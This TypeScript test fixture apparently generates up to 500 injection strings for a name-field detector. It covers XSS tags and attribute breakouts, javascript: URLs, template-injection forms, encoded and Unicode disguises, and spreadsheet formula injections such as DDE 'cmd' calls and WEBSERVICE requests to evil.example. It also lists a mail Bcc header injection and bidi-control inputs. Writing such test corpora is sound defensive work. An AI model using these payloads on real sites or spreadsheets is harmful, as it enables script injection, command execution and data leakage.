// Five hundred distinct texts made to run in a page, a mail or a spreadsheet. None is longer than a name may be.

/** What would be run; `x()` is the detector's own. */
const deeds = ['x()', 'alert(1)', 'top.x()', 'x`1`', 'window[`x`]()'] as const

const tags = (deed: string) => [
  `<script>${deed}</script>`,
  `<ScRiPt>${deed}</sCrIpT>`,
  `<img src=1 onerror=${deed}>`,
  `<img/src/onerror=${deed}>`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script>`,
  `<body onload=${deed}>`,
  `<iframe srcdoc="<script>${deed}">`,
  `<iframe src=javascript:${deed}>`,
  `<a href=javascript:${deed}>click</a>`,
  `<details open ontoggle=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<video><source onerror=${deed}>`,
  `<audio src onerror=${deed}>`,
  `<marquee onstart=${deed}>`,
  `<object data=javascript:${deed}>`,
  `<embed src=javascript:${deed}>`,
  `<math href=javascript:${deed}>m</math>`,
  `<style onload=${deed}></style>`,
  `<link rel=x onerror=${deed}>`,
  `<p onclick=${deed}>p`,
  `<x style=animation:a onanimationend=${deed}>`,
  `<button popovertarget=p onclick=${deed}>`,
  `<select autofocus onfocus=${deed}>`,
]

const breakers = (deed: string) => [
  `"><script>${deed}</script>`,
  `'><script>${deed}</script>`,
  `" onmouseover=${deed} x="`,
  `' onfocus=${deed} autofocus '`,
  `--><script>${deed}</script>`,
  `]]><script>${deed}</script>`,
  `</title><script>${deed}</script>`,
  `</textarea><script>${deed}</script>`,
  `</script><script>${deed}</script>`,
  `</style><img src=1 onerror=${deed}>`,
  `</noscript><svg onload=${deed}>`,
  `';${deed}//`,
  `";${deed}//`,
  `\\';${deed}//`,
  `\`+${deed}+\``,
  `});${deed};({`,
]

const urls = (deed: string) => [
  `javascript:${deed}`,
  `JaVaScRiPt:${deed}`,
  `javascript://%0a${deed}`,
  `data:text/html,<script>${deed}</script>`,
  `vbscript:${deed}`,
  `java&#10;script:${deed}`,
  `//evil.example/?${deed}`,
]

const templates = (deed: string) => [
  `{{${deed}}}`,
  `\${${deed}}`,
  `<%= ${deed} %>`,
  `#{${deed}}`,
  `{{constructor.constructor('${deed}')()}}`,
  `[[${deed}]]`,
  `{%${deed}%}`,
  `$(${deed})`,
]

const disguises = (deed: string) => [
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&#60;script&#62;${deed}&#60;/script&#62;`,
  `%3Cscript%3E${deed}%3C/script%3E`,
  `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  `＜script＞${deed}＜/script＞`,
  `‹script›${deed}‹/script›`,
  `<scr\u200bipt>${deed}</script>`,
  `<\u00adscript>${deed}</script>`,
  `<script\u2063>${deed}</script>`,
  `<<script>${deed}//<</script>`,
  `<script/x>${deed}</script>`,
  `<script src=//evil.example/${deed}>`,
  `<img src=//evil.example/${deed}>`,
  `<link rel=stylesheet href=//evil.example/${deed}>`,
  `<meta http-equiv=refresh content=0;//evil.example>${deed}`,
  `<base href=//evil.example/>${deed}`,
  `<form action=//evil.example/><button>${deed}`,
  `مرحبا<script>${deed}</script>`,
  `שלום<img src=1 onerror=${deed}>`,
]

/** Cells that a spreadsheet would work out; the wide signs are narrow ones to some of them. */
export const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("//evil.example","x")',
  '=IMPORTXML("//evil.example","//a")',
  '=WEBSERVICE("//evil.example")',
  '+1+1',
  '+cmd|"/c calc"!A1',
  '-1+1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '@evil',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1;"x"',
  '"=1+1"',
  '=1,=2',
  "'=1+1",
  ';=1+1',
]

/** These turn the writing around or are no text at all: the form must refuse them. */
export const refusedPayloads = [
  '\u202e<script>x()</script>',
  '\u2066<img src=1 onerror=x()>',
  '\u202atxt.exe',
  'Rosa\u2028x()',
  'Rosa\u2029x()',
  '<scr\u0000ipt>x()</script>',
  'Rosa\r\nBcc: evil@example.com',
  'Rosa\n<script>x()</script>',
  'Ro\u001bsa',
  'Ro\ud800sa',
]

const longest = 60

export const payloads: readonly string[] = [
  ...new Set([
    ...deeds.flatMap((deed) => [tags, breakers, urls, templates, disguises].flatMap((kind) => kind(deed))),
    ...deeds.flatMap((deed) => tags(deed).map((tag) => `Rosa ${tag}`)),
    ...formulas,
  ]),
]
  .filter((text) => text.length <= longest)
  .slice(0, 500)
